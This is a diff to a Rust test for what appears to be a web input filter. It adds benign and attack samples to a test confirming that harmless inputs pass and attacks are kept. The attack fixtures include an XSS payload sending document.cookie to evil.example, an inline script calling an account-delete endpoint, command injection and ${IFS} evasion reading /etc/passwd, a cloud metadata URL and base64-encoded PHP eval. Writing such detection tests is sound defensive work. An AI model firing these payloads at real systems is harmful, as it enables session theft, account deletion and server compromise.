@@ -2285,6 +2285,8 @@ fn confirmations_pass_inert_values_and_keep_attacks() {
         ("a same-origin script tag", json(r#"{"code":"<script src=\"/static/app.js\" defer></script>"}"#)),
         ("an onclick calling a page function", form(&[("body", "<a href=\"#\" onclick=\"toggle()\">Show more</a>")])),
         ("a URL in wiki text", json(r#"{"body":"Local dev: http://localhost:3000/api/users?id=42&include=orders"}"#)),
+        ("prose naming a script tag", q("My script tag disappeared after the update <script> was removed?")),
+        ("a template placeholder in prose", q("Try ${variable} syntax in the template editor")),
     ];
     let mut failures = Vec::new();
     for (what, req) in &benign {
@@ -2300,6 +2302,8 @@ fn confirmations_pass_inert_values_and_keep_attacks() {
         ("script with a dialog", q("<script>alert(document.domain)</script>")),
         ("handler reading the cookie", q("<img src=x onerror=fetch('//evil.example/'+document.cookie)>")),
         ("script from another origin", q("<script src=//evil.example/x.js></script>")),
+        ("inline script acting as the user", q("<script>fetch('/api/account/delete',{method:'POST'});x=1</script>")),
+        ("shell variable evasion", q("cat${IFS}/etc/passwd")),
         ("command after a separator", q("127.0.0.1; cat /etc/passwd")),
         ("metadata URL", q("http://169.254.169.254/latest/meta-data/")),
         ("base64 of PHP code", q(&b64(b"eval(base64_decode('ZWNobyAxOw=='));", false))),
